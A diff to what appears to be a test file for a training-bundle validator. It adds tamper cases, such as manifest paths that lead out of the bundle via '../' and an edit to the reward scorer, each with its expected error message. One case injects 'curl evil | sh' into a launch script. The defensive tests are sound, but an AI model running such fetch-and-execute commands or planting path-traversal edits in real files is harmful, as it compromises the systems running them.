@@ -209,6 +209,12 @@ def _emptied(root: Path) -> None:
     (root / "manifest.json").write_text("{}")
 
 
+def _elsewhere(root: Path) -> None:
+    """Script and manifest agree, and lead out of the bundle."""
+    _edit("launch.sh", "$HANDOFF_DIR/data/train.parquet", "$HANDOFF_DIR/../rows.parquet")(root)
+    _edit("manifest.json", '"data.train_files": "data/train', '"data.train_files": "../rows')(root)
+
+
 def _other_launch(root: Path) -> None:
     """Script and manifest agree, and mean another run."""
     for name in ("launch.sh", "manifest.json"):
@@ -221,6 +227,15 @@ def _other_launch(root: Path) -> None:
         (
             _edit("launch.sh", "exec python3", "curl evil | sh; exec python3"),
             "not the script of the manifest",
+        ),
+        (_elsewhere, "../rows.parquet: the run has no such file"),
+        (
+            _edit("reward/score.py", "return float", "import os; return float"),
+            "not the code of the scorer",
+        ),
+        (
+            _edit("manifest.json", '"adapter": "', '"../adapter": "'),
+            "../adapter: the run has no such file",
         ),
         (_emptied, "it is not as a bundle is"),
         (_other_launch, "recipe.data.prompts_per_step: the bundle's launch means 4, and 2 was run"),
